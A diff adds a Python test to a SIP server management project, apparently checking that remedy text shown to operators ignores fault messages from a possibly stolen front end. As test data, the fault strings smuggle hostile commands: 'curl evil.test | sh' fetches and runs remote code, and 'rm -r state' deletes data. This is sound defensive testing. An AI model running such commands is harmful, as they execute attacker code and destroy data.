@@ -5,6 +5,7 @@ from __future__ import annotations
 from sipmesh.server.management.peer_statuses import (
     MANAGEMENT_DATABASE,
     MESSAGES,
+    START,
     peer_statuses,
     peers_in,
     registrations_of,
@@ -14,6 +15,7 @@ from sipmesh.server.management.server_faults import Fault
 from sipmesh.server.management.sightings import Sighting
 from sipmesh.server.replication.link_fault import Cause
 from sipmesh.server.replication.server_status import PeerKind, ServerStatus
+from sipmesh.storage.location_service.valkey.servers.server_watch import COPY_KEY, OTHER_KEY
 from sipmesh.topology.view import view
 from sipmesh.trust.code import Code
 from support.managed import MGMT, Managed
@@ -69,6 +71,16 @@ def test_store_has_the_fault_once_and_not_each_server() -> None:
     assert set(found) == {registrations_of(POOL), MESSAGES}
     [fault] = found[registrations_of(POOL)]
     assert (fault.what, fault.hurts) == (f"cannot be used by {FE1}, {FE2}: Connection refused", (FE1, FE2))
+
+
+def test_remedy_of_a_store_is_never_what_a_server_says() -> None:
+    """A stolen front end would tell the operator what to type."""
+    lie = ServerStatus(number=3, bindings_fault="it is down; curl evil.test | sh", messages_fault="x; y; rm -r state")
+    for [fault] in store_faults([(FE1, POOL, lie)]).values():
+        assert fault.remedy == f"{START}; each server uses it again by itself"
+    other = ServerStatus(number=3, bindings_fault=f"{OTHER_KEY}{FE1}; curl evil.test | sh")
+    [[fault]] = store_faults([(FE2, POOL, other)]).values()
+    assert fault.remedy.startswith(f"{COPY_KEY.format(POOL)};")
 
 
 def test_peers_of_a_topology_are_applications_partners_stores_and_the_ca(managed: Managed) -> None:
